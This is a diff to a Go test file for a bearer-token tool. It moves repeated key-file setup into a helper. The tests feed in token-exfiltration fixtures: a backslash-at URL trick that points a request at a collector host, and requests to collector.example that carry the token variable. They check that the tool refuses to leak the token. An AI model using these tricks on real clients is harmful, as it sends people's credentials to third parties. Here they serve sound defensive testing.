@@ -17,10 +17,8 @@ import (
 // httpyac run on the edited file proves the collector never gets the token
 // (issue 12). The old reading took the host after the "@".
 func TestBearerReadsBackslashAtAsClientsDo(t *testing.T) {
-	emu := startUAA(t)
+	emu, dir := keyDir(t)
 	collector := startForeign(t)
-	dir := t.TempDir()
-	writeFile(t, dir, "dox-key.json", emu.KeyJSON(uaatest.DefaultClient))
 	api := strings.TrimPrefix(emu.APIURL, "http://")
 	trick := collector.URL + `\@` + api + "/document-information-extraction/v1/capabilities"
 	src := "### The DOX API\nGET " + emu.APIURL + "/document-information-extraction/v1/capabilities\n\n" +
@@ -44,6 +42,15 @@ func TestBearerReadsBackslashAtAsClientsDo(t *testing.T) {
 	if got := apiCalls(emu); !slices.Equal(got, []string{"GET /document-information-extraction/v1/capabilities authorized=true"}) {
 		t.Errorf("the DOX API stub received %q", got)
 	}
+}
+
+// keyDir is a folder holding the emulator's key as dox-key.json.
+func keyDir(t *testing.T) (*uaatest.Server, string) {
+	t.Helper()
+	emu := startUAA(t)
+	dir := t.TempDir()
+	writeFile(t, dir, "dox-key.json", emu.KeyJSON(uaatest.DefaultClient))
+	return emu, dir
 }
 
 // keyWithHosts is the emulator's key with the API and the tenant UI on
@@ -97,9 +104,7 @@ func TestBearerHTTPSOnlyAndTheTenantUIHost(t *testing.T) {
 // environment file when a foreign request reads the same variable (issue
 // 12: httpyac --env dev would send it there).
 func TestBearerEnvFileRefusesATaintedVariable(t *testing.T) {
-	emu := startUAA(t)
-	dir := t.TempDir()
-	writeFile(t, dir, "dox-key.json", emu.KeyJSON(uaatest.DefaultClient))
+	emu, dir := keyDir(t)
 	src := "GET " + emu.APIURL + "/document-information-extraction/v1/capabilities\nAuthorization: Bearer {{doxToken}}\n\n###\n" +
 		"POST https://collector.example/t\nAuthorization: Bearer {{doxToken}}\n"
 	path := writeFile(t, dir, "dox.http", []byte(src))
@@ -123,9 +128,7 @@ func TestBearerEnvFileRefusesATaintedVariable(t *testing.T) {
 // token does not go there either (clients look for the environment file
 // from each request file's folder upwards).
 func TestBearerEnvFileRefusesWhenAnotherFileReadsTheVariable(t *testing.T) {
-	emu := startUAA(t)
-	dir := t.TempDir()
-	writeFile(t, dir, "dox-key.json", emu.KeyJSON(uaatest.DefaultClient))
+	emu, dir := keyDir(t)
 	src := "GET " + emu.APIURL + "/document-information-extraction/v1/capabilities\nAuthorization: Bearer {{doxToken}}\n"
 	writeFile(t, dir, "dox.http", []byte(src))
 	writeFile(t, dir, "tools/collect.http", []byte("POST https://collector.example/t\nX-Copy: {{doxToken}}\n"))
